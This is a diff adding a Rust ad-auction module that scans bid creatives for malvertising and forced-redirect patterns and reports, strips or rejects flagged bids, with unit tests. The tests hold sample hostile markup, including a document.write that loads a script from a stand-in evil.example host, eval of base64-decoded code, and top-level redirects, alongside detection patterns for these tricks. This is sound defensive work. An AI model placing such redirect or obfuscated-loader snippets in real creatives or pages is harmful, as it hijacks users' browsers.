@@ -0,0 +1,663 @@
+//! Creative malware and auto-redirect scanning.
+//!
+//! [`crate::creative::sanitize_creative_html`] is all-or-nothing: it strips
+//! every script or none. The scanner sits between the two. It looks for the
+//! patterns behind forced-redirect and malvertising creatives:
+//!
+//! - top-level navigation (`top.location`, `parent.location`)
+//! - `location` assignment and `location.replace`/`assign` calls
+//! - `<meta http-equiv="refresh">`
+//! - `document.write` of a remote `<script>` from a host outside
+//!   `allowed_script_domains`
+//! - `eval`-style execution of decoded strings (`atob`, `fromCharCode`,
+//!   escape sequences, packers)
+//! - any URL on a host in the `blocked_domains` reputation list
+//!
+//! What happens to a flagged bid is set per provider by
+//! [`CreativeScanAction`]. Rejected bids are dropped before winner selection,
+//! so the next-highest bid for the slot wins. Every finding is recorded under
+//! [`CREATIVE_SCAN_FINDINGS_METADATA_KEY`] in the provider response metadata
+//! and emitted as a `creative_scan` auction telemetry row.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use serde::{Deserialize, Serialize};
+
+use crate::auction_config_types::{CreativeScanAction, CreativeScanConfig};
+use crate::creative::sanitize_creative_html;
+use crate::platform::{RuntimeServices, StoreName};
+
+use super::types::{AuctionResponse, Bid};
+
+/// Response metadata key holding the [`ScanFindingRecord`]s of a provider response.
+pub const CREATIVE_SCAN_FINDINGS_METADATA_KEY: &str = "creative_scan_findings";
+
+/// Bytes after `document.write(` searched for an injected script tag.
+const DOCUMENT_WRITE_WINDOW: usize = 2048;
+
+/// A suspicious pattern found in a creative.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum CreativeFinding {
+    /// Navigates the top-level or parent browsing context.
+    TopNavigation,
+    /// Assigns `location` or calls `location.replace`/`location.assign`.
+    LocationAssignment,
+    /// Redirects through `<meta http-equiv="refresh">`.
+    MetaRefresh,
+    /// Writes a `<script>` from a host outside `allowed_script_domains`.
+    RemoteDocumentWrite,
+    /// Executes a decoded or packed string.
+    ObfuscatedEval,
+    /// References a host on the `blocked_domains` reputation list.
+    BlockedDomain,
+}
+
+impl CreativeFinding {
+    /// Stable telemetry label.
+    #[must_use]
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::TopNavigation => "top_navigation",
+            Self::LocationAssignment => "location_assignment",
+            Self::MetaRefresh => "meta_refresh",
+            Self::RemoteDocumentWrite => "remote_document_write",
+            Self::ObfuscatedEval => "obfuscated_eval",
+            Self::BlockedDomain => "blocked_domain",
+        }
+    }
+}
+
+/// One finding on one bid, as stored in response metadata.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ScanFindingRecord {
+    /// Slot the bid was for.
+    pub slot_id: String,
+    /// Seat that placed the bid.
+    pub seat: String,
+    /// Ad ID of the bid, when present.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub ad_id: Option<String>,
+    /// First advertiser domain of the bid, when present.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub ad_domain: Option<String>,
+    /// [`CreativeFinding::as_str`] label.
+    pub finding: String,
+    /// `reported`, `stripped` or `rejected`.
+    pub action: String,
+}
+
+/// Config Store document extending the static domain lists, for example
+/// `{"blocked_domains": ["malware.example"]}`.
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+struct DomainListDocument {
+    blocked_domains: Vec<String>,
+    allowed_script_domains: Vec<String>,
+}
+
+/// Resolved scanning policy for one auction.
+#[derive(Debug, Clone, Default)]
+pub struct CreativeScanner {
+    default_action: CreativeScanAction,
+    providers: BTreeMap<String, CreativeScanAction>,
+    blocked_domains: Vec<String>,
+    allowed_script_domains: Vec<String>,
+}
+
+impl CreativeScanner {
+    /// Build a scanner from the static `[auction.creative_scan]` config only.
+    #[must_use]
+    pub fn from_config(config: &CreativeScanConfig) -> Self {
+        Self {
+            default_action: config.default_action,
+            providers: config.providers.clone(),
+            blocked_domains: normalize_domains(config.blocked_domains.clone()),
+            allowed_script_domains: normalize_domains(config.allowed_script_domains.clone()),
+        }
+    }
+
+    /// Build a scanner from static config merged with the Config Store document.
+    ///
+    /// A missing or invalid document is logged and ignored, so the static
+    /// lists still apply and the auction is not blocked on it.
+    #[must_use]
+    pub fn resolve(config: &CreativeScanConfig, services: &RuntimeServices) -> Self {
+        let mut scanner = Self::from_config(config);
+        let Some(store) = config.config_store.as_deref() else {
+            return scanner;
+        };
+        let store_name = StoreName::from(store);
+        let raw = match services
+            .config_store()
+            .get(&store_name, &config.config_store_key)
+        {
+            Ok(raw) => raw,
+            Err(err) => {
+                log::warn!(
+                    "creative scan: failed to read domain lists from {store}:{}: {err:?}",
+                    config.config_store_key
+                );
+                return scanner;
+            }
+        };
+        match serde_json::from_str::<DomainListDocument>(&raw) {
+            Ok(document) => {
+                scanner.blocked_domains.extend(document.blocked_domains);
+                scanner.blocked_domains =
+                    normalize_domains(std::mem::take(&mut scanner.blocked_domains));
+                scanner
+                    .allowed_script_domains
+                    .extend(document.allowed_script_domains);
+                scanner.allowed_script_domains =
+                    normalize_domains(std::mem::take(&mut scanner.allowed_script_domains));
+            }
+            Err(err) => log::warn!(
+                "creative scan: ignoring invalid domain list document {store}:{}: {err}",
+                config.config_store_key
+            ),
+        }
+        scanner
+    }
+
+    /// Action applied to bids from `provider`.
+    #[must_use]
+    pub fn action_for(&self, provider: &str) -> CreativeScanAction {
+        self.providers
+            .get(provider)
+            .copied()
+            .unwrap_or(self.default_action)
+    }
+
+    /// Scan creative markup, returning its findings in a stable order.
+    #[must_use]
+    pub fn scan(&self, markup: &str) -> Vec<CreativeFinding> {
+        let lower = markup.to_ascii_lowercase();
+        // Whitespace and string concatenation are the cheapest obfuscations;
+        // fold both away so `top . location` and `"<scr"+"ipt"` still match.
+        let compact: String = lower
+            .chars()
+            .filter(|c| !c.is_ascii_whitespace())
+            .collect::<String>()
+            .replace("\"+\"", "")
+            .replace("'+'", "");
+
+        let mut findings = BTreeSet::new();
+        if has_top_navigation(&compact) {
+            findings.insert(CreativeFinding::TopNavigation);
+        }
+        if has_location_assignment(&compact) {
+            findings.insert(CreativeFinding::LocationAssignment);
+        }
+        if compact.contains("http-equiv=\"refresh\"")
+            || compact.contains("http-equiv='refresh'")
+            || compact.contains("http-equiv=refresh")
+        {
+            findings.insert(CreativeFinding::MetaRefresh);
+        }
+        if self.has_remote_document_write(&compact) {
+            findings.insert(CreativeFinding::RemoteDocumentWrite);
+        }
+        if has_obfuscated_eval(&compact) {
+            findings.insert(CreativeFinding::ObfuscatedEval);
+        }
+        if !self.blocked_domains.is_empty()
+            && url_hosts(&lower).any(|host| domain_matches(&self.blocked_domains, host))
+        {
+            findings.insert(CreativeFinding::BlockedDomain);
+        }
+        findings.into_iter().collect()
+    }
+
+    /// Apply the provider's action to every flagged bid in `response`.
+    ///
+    /// Findings are recorded under [`CREATIVE_SCAN_FINDINGS_METADATA_KEY`].
+    pub fn enforce(&self, response: &mut AuctionResponse) {
+        if response.bids.is_empty() {
+            return;
+        }
+        let action = self.action_for(&response.provider);
+        let mut records = Vec::new();
+        response.bids.retain_mut(|bid| {
+            let Some(creative) = bid.creative.as_deref() else {
+                return true;
+            };
+            let findings = self.scan(creative);
+            if findings.is_empty() {
+                return true;
+            }
+            let (keep, outcome) = match action {
+                CreativeScanAction::Report => (true, "reported"),
+                CreativeScanAction::Reject => (false, "rejected"),
+                CreativeScanAction::Strip => match self.strip(creative) {
+                    Some(stripped) => {
+                        bid.creative = Some(stripped);
+                        (true, "stripped")
+                    }
+                    None => (false, "rejected"),
+                },
+            };
+            log::info!(
+                "creative scan: {outcome} {} bid from '{}' for slot '{}': {}",
+                response.provider,
+                bid.bidder,
+                bid.slot_id,
+                findings
+                    .iter()
+                    .copied()
+                    .map(CreativeFinding::as_str)
+                    .collect::<Vec<_>>()
+                    .join(",")
+            );
+            records.extend(
+                findings
+                    .iter()
+                    .map(|finding| record(bid, *finding, outcome)),
+            );
+            keep
+        });
+        if records.is_empty() {
+            return;
+        }
+        response.metadata.insert(
+            CREATIVE_SCAN_FINDINGS_METADATA_KEY.to_string(),
+            serde_json::json!(records),
+        );
+    }
+
+    /// Remove the offending markup from a creative.
+    ///
+    /// Drops each `<script>` element whose own content has findings. If
+    /// findings remain outside scripts (event handlers, meta refresh, blocked
+    /// image hosts), falls back to the full sanitizer. Returns [`None`] when
+    /// the creative is still flagged afterwards.
+    #[must_use]
+    pub fn strip(&self, markup: &str) -> Option<String> {
+        let mut out = String::with_capacity(markup.len());
+        let mut rest = markup;
+        while let Some(start) = find_ascii_case_insensitive(rest, "<script") {
+            let Some(end) = find_ascii_case_insensitive(&rest[start..], "</script>")
+                .map(|offset| start + offset + "</script>".len())
+            else {
+                break;
+            };
+            out.push_str(&rest[..start]);
+            let element = &rest[start..end];
+            if self.scan(element).is_empty() {
+                out.push_str(element);
+            }
+            rest = &rest[end..];
+        }
+        out.push_str(rest);
+
+        if self.scan(&out).is_empty() {
+            return Some(out);
+        }
+        let sanitized = sanitize_creative_html(&out);
+        (!sanitized.is_empty() && self.scan(&sanitized).is_empty()).then_some(sanitized)
+    }
+
+    fn has_remote_document_write(&self, compact: &str) -> bool {
+        ["document.write(", "document.writeln("]
+            .iter()
+            .flat_map(|sink| compact.match_indices(sink))
+            .any(|(index, _)| {
+                let window_end = floor_char_boundary(
+                    compact,
+                    (index + DOCUMENT_WRITE_WINDOW).min(compact.len()),
+                );
+                let window = &compact[index..window_end];
+                let Some(script) = window.find("<script") else {
+                    return false;
+                };
+                url_hosts(&window[script..])
+                    .next()
+                    .is_some_and(|host| !domain_matches(&self.allowed_script_domains, host))
+            })
+    }
+}
+
+fn record(bid: &Bid, finding: CreativeFinding, action: &str) -> ScanFindingRecord {
+    ScanFindingRecord {
+        slot_id: bid.slot_id.clone(),
+        seat: bid.bidder.clone(),
+        ad_id: bid.ad_id.clone(),
+        ad_domain: bid
+            .adomain
+            .as_ref()
+            .and_then(|domains| domains.first().cloned()),
+        finding: finding.as_str().to_string(),
+        action: action.to_string(),
+    }
+}
+
+fn has_top_navigation(compact: &str) -> bool {
+    ["top.location", "parent.location"]
+        .iter()
+        .any(|needle| contains_token(compact, needle))
+}
+
+fn has_location_assignment(compact: &str) -> bool {
+    let assigned = |needle: &str| {
+        compact.match_indices(needle).any(|(index, _)| {
+            let rest = &compact[index + needle.len()..];
+            token_start(compact, index) && rest.starts_with('=') && !rest.starts_with("==")
+        })
+    };
+    assigned("location")
+        || assigned("location.href")
+        || contains_token(compact, "location.replace(")
+        || contains_token(compact, "location.assign(")
+}
+
+fn has_obfuscated_eval(compact: &str) -> bool {
+    if compact.contains("eval(function(p,a,c,k,e,") {
+        return true;
+    }
+    let executes = ["eval(", "newfunction(", "settimeout(\"", "settimeout('"]
+        .iter()
+        .any(|sink| contains_token(compact, sink));
+    let decodes = [
+        "atob(",
+        "unescape(",
+        "fromcharcode(",
+        "decodeuricomponent(",
+        "\\x",
+        "\\u00",
+    ]
+    .iter()
+    .any(|decoder| compact.contains(decoder));
+    executes && decodes
+}
+
+/// Whether `needle` occurs in `haystack` not preceded by an identifier character.
+fn contains_token(haystack: &str, needle: &str) -> bool {
+    haystack
+        .match_indices(needle)
+        .any(|(index, _)| token_start(haystack, index))
+}
+
+fn token_start(haystack: &str, index: usize) -> bool {
+    haystack[..index]
+        .chars()
+        .next_back()
+        .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+}
+
+/// Hosts of the absolute and protocol-relative URLs in lowercased text.
+fn url_hosts(text: &str) -> impl Iterator<Item = &str> {
+    text.match_indices("//").filter_map(|(index, _)| {
+        let host_start = index + 2;
+        let host_len = text[host_start..]
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
+            .unwrap_or(text.len() - host_start);
+        let host = text[host_start..host_start + host_len].trim_end_matches('.');
+        host.contains('.').then_some(host)
+    })
+}
+
+/// Whether `host` is one of `domains` or a subdomain of one.
+fn domain_matches(domains: &[String], host: &str) -> bool {
+    domains.iter().any(|domain| {
+        host == domain
+            || host
+                .strip_suffix(domain.as_str())
+                .is_some_and(|prefix| prefix.ends_with('.'))
+    })
+}
+
+fn normalize_domains(domains: Vec<String>) -> Vec<String> {
+    domains
+        .into_iter()
+        .map(|domain| domain.trim().trim_end_matches('.').to_ascii_lowercase())
+        .filter(|domain| !domain.is_empty())
+        .collect::<BTreeSet<_>>()
+        .into_iter()
+        .collect()
+}
+
+fn find_ascii_case_insensitive(haystack: &str, needle: &str) -> Option<usize> {
+    haystack
+        .as_bytes()
+        .windows(needle.len())
+        .position(|window| window.eq_ignore_ascii_case(needle.as_bytes()))
+}
+
+fn floor_char_boundary(text: &str, mut index: usize) -> usize {
+    while !text.is_char_boundary(index) {
+        index -= 1;
+    }
+    index
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+
+    use super::*;
+    use crate::auction::types::BidStatus;
+    use crate::platform::test_support::{HashMapConfigStore, build_services_with_config};
+
+    fn bid(price: f64, creative: &str) -> Bid {
+        Bid {
+            slot_id: "atf".to_string(),
+            price: Some(price),
+            currency: "USD".to_string(),
+            creative: Some(creative.to_string()),
+            adomain: Some(vec!["advertiser.example".to_string()]),
+            bidder: "seat-a".to_string(),
+            width: 300,
+            height: 250,
+            nurl: None,
+            burl: None,
+            bid_id: None,
+            ad_id: Some("ad-1".to_string()),
+            creative_id: None,
+            deal_id: None,
+            categories: Vec::new(),
+            attributes: Vec::new(),
+            renderer: None,
+            cache_id: None,
+            cache_host: None,
+            cache_path: None,
+            metadata: HashMap::new(),
+        }
+    }
+
+    fn response(bids: Vec<Bid>) -> AuctionResponse {
+        AuctionResponse {
+            provider: "prebid".to_string(),
+            bids,
+            status: BidStatus::Success,
+            response_time_ms: 10,
+            metadata: HashMap::new(),
+        }
+    }
+
+    fn scanner(action: CreativeScanAction) -> CreativeScanner {
+        CreativeScanner::from_config(&CreativeScanConfig {
+            enabled: true,
+            default_action: action,
+            blocked_domains: vec!["Malware.Example".to_string()],
+            allowed_script_domains: vec!["cdn.adnetwork.example".to_string()],
+            ..CreativeScanConfig::default()
+        })
+    }
+
+    #[test]
+    fn scan_detects_each_pattern() {
+        let scanner = scanner(CreativeScanAction::Report);
+        let cases = [
+            (
+                "<script>if (top !== self) { window.top.location.href = 'https://x.example'; }</script>",
+                CreativeFinding::TopNavigation,
+            ),
+            (
+                "<script>window . location = 'https://x.example'</script>",
+                CreativeFinding::LocationAssignment,
+            ),
+            (
+                "<script>location.replace('https://x.example')</script>",
+                CreativeFinding::LocationAssignment,
+            ),
+            (
+                r#"<meta http-equiv="refresh" content="0;url=https://x.example">"#,
+                CreativeFinding::MetaRefresh,
+            ),
+            (
+                r#"<script>document.write('<scr'+'ipt src="https://evil.example/x.js"></scr'+'ipt>')</script>"#,
+                CreativeFinding::RemoteDocumentWrite,
+            ),
+            (
+                "<script>eval(atob('YWxlcnQoMSk='))</script>",
+                CreativeFinding::ObfuscatedEval,
+            ),
+            (
+                r#"<img src="https://ads.malware.example/p.gif">"#,
+                CreativeFinding::BlockedDomain,
+            ),
+        ];
+        for (markup, expected) in cases {
+            assert!(
+                scanner.scan(markup).contains(&expected),
+                "should flag {markup} as {}",
+                expected.as_str()
+            );
+        }
+    }
+
+    #[test]
+    fn scan_ignores_benign_creatives() {
+        let scanner = scanner(CreativeScanAction::Report);
+        let benign = [
+            r#"<a href="https://advertiser.example/landing"><img src="https://cdn.adnetwork.example/ad.png"></a>"#,
+            r#"<script>document.write('<script src="https://cdn.adnetwork.example/r.js"></script>')</script>"#,
+            "<script>if (window.location == 'x') { retrieval(1); }</script>",
+            "<script>var desktop = {}; desktop.locationHint = 1;</script>",
+        ];
+        for markup in benign {
+            assert!(
+                scanner.scan(markup).is_empty(),
+                "should not flag {markup}: {:?}",
+                scanner.scan(markup)
+            );
+        }
+    }
+
+    #[test]
+    fn reject_drops_bid_so_next_highest_can_win() {
+        let scanner = scanner(CreativeScanAction::Reject);
+        let mut response = response(vec![
+            bid(5.0, "<script>top.location='https://x.example'</script>"),
+            bid(2.0, "<div>clean</div>"),
+        ]);
+
+        scanner.enforce(&mut response);
+
+        assert_eq!(response.bids.len(), 1, "should drop the flagged bid");
+        assert_eq!(
+            response.bids[0].price,
+            Some(2.0),
+            "should keep the clean lower bid"
+        );
+        let records: Vec<ScanFindingRecord> =
+            serde_json::from_value(response.metadata[CREATIVE_SCAN_FINDINGS_METADATA_KEY].clone())
+                .expect("should record findings");
+        assert!(
+            records
+                .iter()
+                .any(|record| record.finding == "top_navigation" && record.action == "rejected"),
+            "should record the rejected top navigation: {records:?}"
+        );
+        assert!(
+            records
+                .iter()
+                .all(|record| record.ad_id.as_deref() == Some("ad-1")),
+            "should only record the flagged bid"
+        );
+    }
+
+    #[test]
+    fn strip_removes_only_offending_scripts() {
+        let scanner = scanner(CreativeScanAction::Strip);
+        let mut response = response(vec![bid(
+            5.0,
+            "<div>ad</div><script>var a=1;</script><script>location.href='https://x.example'</script>",
+        )]);
+
+        scanner.enforce(&mut response);
+
+        let creative = response.bids[0]
+            .creative
+            .as_deref()
+            .expect("should keep the bid");
+        assert!(
+            creative.contains("var a=1;"),
+            "should keep clean scripts: {creative}"
+        );
+        assert!(
+            !creative.contains("location.href"),
+            "should remove the redirect script: {creative}"
+        );
+    }
+
+    #[test]
+    fn strip_rejects_when_findings_survive_sanitizing() {
+        let scanner = scanner(CreativeScanAction::Strip);
+        let mut response = response(vec![bid(
+            5.0,
+            r#"<a href="https://malware.example/landing">click</a>"#,
+        )]);
+
+        scanner.enforce(&mut response);
+
+        assert!(
+            response.bids.is_empty(),
+            "should reject a bid whose blocked link cannot be stripped"
+        );
+    }
+
+    #[test]
+    fn report_keeps_bid_and_provider_override_applies() {
+        let mut config = CreativeScanConfig {
+            enabled: true,
+            default_action: CreativeScanAction::Reject,
+            ..CreativeScanConfig::default()
+        };
+        config
+            .providers
+            .insert("prebid".to_string(), CreativeScanAction::Report);
+        let scanner = CreativeScanner::from_config(&config);
+        let mut response = response(vec![bid(5.0, "<script>top.location='x'</script>")]);
+
+        scanner.enforce(&mut response);
+
+        assert_eq!(response.bids.len(), 1, "should keep the bid in report mode");
+        assert!(
+            response
+                .metadata
+                .contains_key(CREATIVE_SCAN_FINDINGS_METADATA_KEY),
+            "should still record the finding"
+        );
+    }
+
+    #[test]
+    fn resolve_merges_config_store_domain_lists() {
+        let config = CreativeScanConfig {
+            enabled: true,
+            config_store: Some("scan_store".to_string()),
+            ..CreativeScanConfig::default()
+        };
+        let services = build_services_with_config(HashMapConfigStore::new(HashMap::from([(
+            "creative_scan".to_string(),
+            r#"{"blocked_domains": ["Fresh-Malware.Example"]}"#.to_string(),
+        )])));
+
+        let scanner = CreativeScanner::resolve(&config, &services);
+
+        assert_eq!(
+            scanner.scan(r#"<img src="//fresh-malware.example/p.gif">"#),
+            vec![CreativeFinding::BlockedDomain],
+            "should apply domains from the config store"
+        );
+    }
+}